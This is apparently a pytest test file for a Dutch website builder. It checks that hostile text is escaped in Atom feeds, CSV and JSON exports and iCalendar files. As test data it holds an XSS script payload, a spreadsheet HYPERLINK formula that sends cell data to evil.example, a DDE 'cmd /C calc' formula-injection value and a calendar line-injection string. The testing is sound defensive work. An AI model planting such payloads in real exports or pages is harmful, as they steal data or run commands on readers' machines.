"""Hostile text reaches every machine-readable output escaped for that format (issue 13, class 5)."""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET
from html.parser import HTMLParser

import pytest
from conftest import MINIMAL_PROFILE, MINIMAL_STORY, run_build
from icalendar import Calendar

pytestmark = pytest.mark.build

ATOM = "{http://www.w3.org/2005/Atom}"
HOSTILE_SUMMARY = "Tom & <b>Jerry</b> <script>alert(1)</script> <img src=https://evil.example/x.png>"
HOSTILE_TITLE = "Smeden & <i>meer</i> &amp; <script>x</script>"


class Elements(HTMLParser):
    """Every start tag an HTML parser finds in a text."""

    def __init__(self):
        super().__init__()
        self.tags: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)


def html_elements(text: str) -> list[str]:
    parser = Elements()
    parser.feed(text)
    parser.close()
    return parser.tags


def yaml_string(value: str) -> str:
    return '"' + value.replace("\\", "\\\\").replace('"', '\\"') + '"'


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    from conftest import write_minimal_content

    base = tmp_path_factory.mktemp("hostile-output")
    content = write_minimal_content(base / "content")
    story = (MINIMAL_STORY.replace('"Een korte samenvatting."', yaml_string(HOSTILE_SUMMARY))
             .replace('"Een klein verhaal"', yaml_string(HOSTILE_TITLE)))
    (content / "stories" / "een-klein-verhaal.md").write_text(story, encoding="utf-8")
    formulas = {"formule-a": ('=HYPERLINK("https://evil.example/?"&A1;"Klik")', "+31 6 12345678"),
                "formule-b": ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3 zegt de smid"),
                "formule-c": (" =1+1", "\uff1d1+1")}
    for slug, (name, tagline) in formulas.items():
        profile = (MINIMAL_PROFILE.replace('"Jan de Vries"', yaml_string(name))
                   .replace("photo: images/profiles/jan-de-vries.jpg\n", "").replace('photo_alt: "Jan in de smidse"\n', ""))
        profile += f"tagline: {yaml_string(tagline)}\n"
        (content / "profiles" / f"{slug}.yaml").write_text(profile, encoding="utf-8")
    event = (content / "events" / "open-dag.md").read_text(encoding="utf-8")
    event = event.replace('location: "Utrecht"', 'location: "Utrecht; Smidse, achterom \\\\ links"\n'
                                                 'organizer: "Gilde <b>&</b> co; BEGIN:VEVENT"')
    (content / "events" / "open-dag.md").write_text(event, encoding="utf-8")
    build = run_build(base / "output", content=content)
    assert build.ok, build.stderr
    return build


def test_atom_summary_and_title_are_text(hostile_site):
    root = ET.fromstring(hostile_site.file("feeds/verhalen.atom.xml").read_bytes())
    entry = next(e for e in root.iter(f"{ATOM}entry") if "verhalen/een-klein-verhaal/" in e.find(f"{ATOM}link").get("href"))
    summary = entry.find(f"{ATOM}summary")
    assert summary is not None
    if summary.get("type") == "html":
        assert html_elements(summary.text) == []  # as HTML, not one element
        from html import unescape

        assert unescape(summary.text) == HOSTILE_SUMMARY  # and it says what the editor wrote
    else:
        assert summary.get("type", "text") == "text" and summary.text == HOSTILE_SUMMARY
    title = entry.find(f"{ATOM}title")
    assert title.get("type", "text") == "text" and title.text == HOSTILE_TITLE
    content = entry.find(f"{ATOM}content")
    assert "script" not in html_elements(content.text) and "<script" not in content.text
    assert not any(html_elements(e.text or "") for e in root.iter(f"{ATOM}summary"))


def test_csv_cells_never_start_a_formula(hostile_site):
    text = hostile_site.file("open-data/ambachtengids.csv").read_text(encoding="utf-8")
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}
    for slug in ("formule-a", "formule-b", "formule-c"):
        for column in ("naam", "kernzin"):
            assert rows[slug][column].startswith("'"), (slug, column, rows[slug][column])
    assert rows["jan-de-vries"]["naam"] == "Jan de Vries"
    import json

    data = {row["id"]: row for row in json.loads(hostile_site.file("open-data/ambachtengids.json").read_text())}
    assert data["formule-a"]["naam"].startswith("=HYPERLINK")  # JSON is not a formula context: unchanged


def test_calendar_text_is_escaped(hostile_site):
    for path in ("agenda.ics", "agenda/open-dag.ics"):
        raw = hostile_site.file(path).read_bytes()
        lines = raw.decode("utf-8").split("\r\n")
        assert sum(1 for line in lines if line == "BEGIN:VEVENT") == 1
        event = next(iter(Calendar.from_ical(raw).walk("VEVENT")))
        assert str(event["location"]) == "Utrecht; Smidse, achterom \\ links"
        # an X- property comes back as its raw, TEXT-escaped value
        assert str(event["x-organizer-name"]) == "Gilde <b>&</b> co\\; BEGIN:VEVENT"
